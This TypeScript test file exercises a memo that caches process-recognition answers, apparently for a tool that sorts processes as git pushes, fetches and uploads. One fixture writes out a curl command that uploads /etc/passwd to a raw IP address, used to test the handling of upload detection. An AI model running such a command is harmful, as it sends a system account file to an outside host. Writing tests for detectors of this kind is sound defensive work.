/**
 * The recognition memo (src/correlate/recognition-memo.ts) keeps answers per command line: it must give what
 * recognizeProcess gives, keep only answers that cannot change, and tell processes apart by their parent when
 * the answer read the parent.
 */
import { describe, expect, it } from 'vitest';
import { RecognitionMemo } from '../../../src/correlate/recognition-memo.js';
import { recognizeProcess } from '../../../src/rules/index.js';
import type { ProcessView } from '../../../src/rules/recognize.js';

const noUploadTarget = () => false;

const view = (binary: string, args: string, parentBinary: string | null, parentArgs: string | null): ProcessView => ({
  binary,
  args,
  parentBinary,
  parentArgs,
  argvTruncated: false,
  argvCount: undefined,
});

describe('RecognitionMemo', () => {
  it('answers as recognizeProcess does, and recognizes a repeated benign command line once', () => {
    const memo = new RecognitionMemo(noUploadTarget);
    const probe = view('/usr/bin/pg_isready', '-U postgres -h 127.0.0.1', '/usr/bin/postgres', '-D /data');
    expect(memo.recognize(probe)).toBeNull();
    expect(memo.size).toBe(1);
    // Another container's probe under another parent: the same answer, from the same entry.
    const again = view('/usr/bin/pg_isready', '-U postgres -h 127.0.0.1', '/usr/bin/containerd-shim', '-id 3c6e');
    expect(memo.recognize(again)).toBeNull();
    expect(memo.size).toBe(1);
    const fetch = view('/usr/bin/git', 'fetch origin', '/bin/sh', '-c make');
    expect(memo.recognize(fetch)).toEqual(recognizeProcess(fetch, noUploadTarget));
    expect(memo.recognize(fetch)?.kind).toBe('download');
  });

  it('keeps a script run by its interpreter once, whatever its parent (its answer reads no parent field)', () => {
    const memo = new RecognitionMemo(noUploadTarget);
    const worker = (shimId: string) =>
      view('/usr/local/bin/python3.12', '-m worker --queue reports', '/usr/bin/containerd-shim', `-id ${shimId}`);
    expect(memo.recognize(worker('3c6ee70a3f5b'))).toBeNull();
    expect(memo.recognize(worker('8a4057eac9da'))).toBeNull();
    expect(memo.size).toBe(1);
    // A launched program that is a push still is one (npm run as its script, under any parent).
    const publish = view('/usr/local/bin/node', '/usr/local/bin/npm publish', '/bin/sh', '-c release');
    expect(memo.recognize(publish)).toEqual(recognizeProcess(publish, noUploadTarget));
  });

  it('keeps no push: each is a fresh object, as recognizeProcess gives it', () => {
    const memo = new RecognitionMemo(noUploadTarget);
    const push = view('/usr/bin/git', 'push https://github.com/acme/x.git main', '/bin/sh', '-c deploy');
    const first = memo.recognize(push);
    expect(first).toEqual(recognizeProcess(push, noUploadTarget));
    expect(first?.kind).toBe('push');
    expect(memo.recognize(push)).not.toBe(first);
    expect(memo.size).toBe(0);
  });

  it('tells apart processes whose answer read the parent (a transport helper under git push or not)', () => {
    const memo = new RecognitionMemo(noUploadTarget);
    const helper = (parentArgs: string) =>
      view('/usr/lib/git-core/git-remote-https', 'origin https://github.com/acme/x.git', '/usr/bin/git', parentArgs);
    const underPush = helper('push origin main');
    const underFetch = helper('fetch origin');
    expect(recognizeProcess(underPush, noUploadTarget)?.kind).toBe('push');
    expect(recognizeProcess(underFetch, noUploadTarget)?.kind).not.toBe('push');
    // The fetch's answer first: kept under the parent too, so the push's helper is recognized afresh.
    expect(memo.recognize(underFetch)).toEqual(recognizeProcess(underFetch, noUploadTarget));
    expect(memo.recognize(underPush)?.kind).toBe('push');
    expect(memo.recognize(underFetch)).toEqual(recognizeProcess(underFetch, noUploadTarget));
  });

  it('keeps no answer that asked about an IP address (DNS answers and learned hints change)', () => {
    let taught = false;
    const memo = new RecognitionMemo(() => taught);
    const upload = view('/usr/bin/curl', '-T /etc/passwd http://140.82.112.5/upload', '/bin/sh', '-c x');
    expect(memo.recognize(upload)).toBeNull();
    taught = true; // a push taught that this address is a forge's
    expect(memo.recognize(upload)?.kind).toBe('push');
    expect(memo.size).toBe(0);
  });

  it('recognizes a command line too long to keep every time, with the same answer', () => {
    const memo = new RecognitionMemo(noUploadTarget);
    const long = view('/usr/bin/java', `-cp ${'x'.repeat(2000)} Main`, '/bin/sh', '-c run');
    expect(memo.recognize(long)).toEqual(recognizeProcess(long, noUploadTarget));
    expect(memo.size).toBe(0);
  });
});

describe('RecognitionMemo lists', () => {
  const helper = (parentArgs: string) =>
    view('/usr/lib/git-core/git-remote-https', 'origin https://github.com/acme/x.git', '/usr/bin/git', parentArgs);

  it('keeps a bounded number of answers for one command line under ever new parents (a CI node fetching shas)', () => {
    const memo = new RecognitionMemo(noUploadTarget);
    for (let i = 0; i < 1000; i++) {
      const fetch = helper(`fetch origin ${(0x10000000 + i).toString(16)}`);
      expect(memo.recognize(fetch)).toEqual(recognizeProcess(fetch, noUploadTarget));
    }
    // One list scanned at every lookup of that helper: 1,000 long, it cost 10 µs a hit (0.8 µs by key string).
    expect(memo.size).toBeLessThanOrEqual(16);
    // The latest are still answered from the memo, the oldest afresh: the same answers.
    const latest = helper(`fetch origin ${(0x10000000 + 999).toString(16)}`);
    expect(memo.recognize(latest)).toEqual(recognizeProcess(latest, noUploadTarget));
    expect(memo.recognize(helper('push origin main'))?.kind).toBe('push');
  });

  it('keeps each of many binaries run with the same args (none): no list of them', () => {
    const memo = new RecognitionMemo(noUploadTarget);
    for (let i = 0; i < 500; i++) memo.recognize(view(`/tmp/go-build${i}/b001/exe/main`, '', '/bin/sh', '-c x'));
    expect(memo.size).toBe(500);
    for (let i = 0; i < 500; i++) memo.recognize(view(`/tmp/go-build${i}/b001/exe/main`, '', '/bin/sh', '-c y'));
    expect(memo.size).toBe(500);
  });
});
